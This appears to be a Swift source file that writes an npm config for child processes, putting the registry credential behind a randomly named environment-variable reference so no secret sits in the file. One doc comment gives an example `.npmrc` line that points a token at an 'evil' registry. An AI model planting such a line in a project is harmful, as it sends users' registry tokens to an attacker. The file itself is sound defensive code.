/// The npm user config an `exec` child reads: the user's own file with this registry's
/// credential replaced by a `${TOKENSH_EXEC_TOKEN_…}` reference, which npm expands from the
/// child's environment. The bytes hold no secret of this registry, so they may go anywhere the
/// user's own file could.
public enum ExecUserConfig {
    /// The variable the child finds the credential in: this prefix and 16 random hex digits,
    /// new for every run. A fixed name could be written into a cloned project's `.npmrc` for a
    /// registry of the project's choosing (`//evil/:_authToken=${NAME}`), and npm would send the
    /// token there; a name nobody knows in advance cannot be.
    public static let variablePrefix = "TOKENSH_EXEC_TOKEN_"

    public static func freshVariable() -> String {
        var generator = SystemRandomNumberGenerator()
        let digits = (0..<16).map { _ in String(UInt8.random(in: 0...15, using: &generator), radix: 16) }
        return variablePrefix + digits.joined().uppercased()
    }

    /// How npm is to send the credential.
    public enum Kind: Sendable, Equatable {
        /// `//HOST/:_authToken=${…}`: a bearer token.
        case token
        /// `//HOST/:_auth=${…}`: base64 of `user:password`, sent as Basic.
        case basic
    }

    /// `user` with every credential line of `registry` removed and the one placeholder line
    /// added; every other byte (comments, other registries, settings) as it was.
    ///
    /// Removed are the keys npm would read a credential for this registry from: the nerf-darted
    /// `_authToken`, `_auth`, `username`, `_password`, and for the registry npm uses by default
    /// the bare legacy keys too. `certfile`/`keyfile` are settings, not credentials, and stay.
    public static func bytes(
        user: NpmrcDocument?, registry: String, kind: Kind, isDefaultRegistry: Bool, variable: String
    ) -> [UInt8]? {
        guard let nerf = RegistryURL.nerfDart(of: registry) else { return nil }
        var document = user ?? NpmrcDocument(bytes: [])
        if isDefaultRegistry {
            for key in ["_authToken", "_authtoken", "-authtoken", "_auth", "_password", "username"] {
                document.remove(key)
            }
        }
        for name in ["_authToken", "_auth", "_password", "username"] {
            document.remove(nerf + ":" + name)
        }
        let key = kind == .token ? ":_authToken" : ":_auth"
        document.set(nerf + key, to: "${" + variable + "}")
        return document.bytes
    }
}
